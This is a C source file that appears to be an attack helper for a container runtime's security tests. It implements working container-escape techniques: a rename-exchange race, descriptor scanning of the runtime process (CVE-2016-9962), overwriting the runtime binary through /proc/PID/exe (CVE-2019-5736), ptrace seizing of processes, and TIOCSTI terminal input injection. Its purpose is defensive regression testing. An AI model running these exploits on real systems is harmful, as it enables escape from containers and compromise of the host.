/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The attackers' programs. Static: some of them run in containers.
 *
 *   tools swap A B       lets A and B change places until it is killed
 *   tools catch          looks into every process that appears, for what it could take from it, until it is killed
 *   tools type TEXT      puts TEXT into the input of the terminal that is its standard input (TIOCSTI)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int swap(const char *a, const char *b)
{
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

/* Tells what it got in /caught, one line a kind: that is a file of the container. */
static void tell(const char *what, const char *detail)
{
    FILE *file = fopen("/caught", "a");

    if (!file)
        return;
    fprintf(file, "%s %s\n", what, detail);
    fclose(file);
}

/* CVE-2016-9962: descriptors of the runtime's process, from the moment it is in sight. */
static void take_descriptors(const char *pid)
{
    char path[300], link[256];
    struct dirent *entry;
    DIR *dir;

    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    dir = opendir(path);
    while (dir && (entry = readdir(dir))) {
        ssize_t n;

        if (atoi(entry->d_name) <= 2)
            continue;
        n = readlinkat(dirfd(dir), entry->d_name, link, sizeof link - 1);
        if (n > 0) {
            link[n] = '\0';
            tell("descriptor", link);
        }
    }
    if (dir)
        closedir(dir);
}

/*
 * CVE-2019-5736: the runtime's program, to be written to as soon as nobody executes it any more. What is opened is
 * remembered, so that the test knows that there was something to attack.
 */
static void take_program(const char *pid, const struct stat *own)
{
    char path[64];
    struct stat st;
    int fd, out = -1;

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    if (fstat(fd, &st) < 0 || (st.st_dev == own->st_dev)) {
        close(fd);
        return;
    }
    tell("program", "opened");
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 20000 && out < 0; i++)
        out = open(path, O_WRONLY | O_CLOEXEC);
    if (out >= 0 && write(out, "OWNED", 5) == 5)
        tell("program", "overwritten");
    close(out);
    close(fd);
}

static void trace(int pid)
{
    int status;

    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return;
    tell("traced", "yes");
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    if (waitpid(pid, &status, __WALL) == pid)
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static int catch (const char *what)
{
    struct stat own;
    int seen = 0;

    stat("/", &own);
    tell("ready", "yes");
    for (;;) {
        char pid[16];

        /* Numbers are given in order: the next one is looked at until it is there. */
        if (!seen)
            seen = getpid();
        for (int next = seen + 1; next < seen + 64; next++) {
            snprintf(pid, sizeof pid, "%d", next);
            if (kill(next, 0) < 0 && errno == ESRCH)
                continue;
            for (int i = 0; i < 400 && (kill(next, 0) == 0 || errno != ESRCH); i++) {
                if (strcmp(what, "program") == 0)
                    take_program(pid, &own);
                else if (strcmp(what, "trace") == 0)
                    trace(next);
                else
                    take_descriptors(pid);
            }
            seen = next;
        }
    }
}

static int type(const char *text)
{
    for (; *text; text++)
        if (ioctl(STDIN_FILENO, TIOCSTI, text) < 0) {
            perror("TIOCSTI");
            return 1;
        }
    puts("typed");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "swap") == 0)
        return swap(argv[2], argv[3]);
    if (argc == 3 && strcmp(argv[1], "catch") == 0)
        return catch (argv[2]);
    if (argc == 3 && strcmp(argv[1], "type") == 0)
        return type(argv[2]);
    return 2;
}
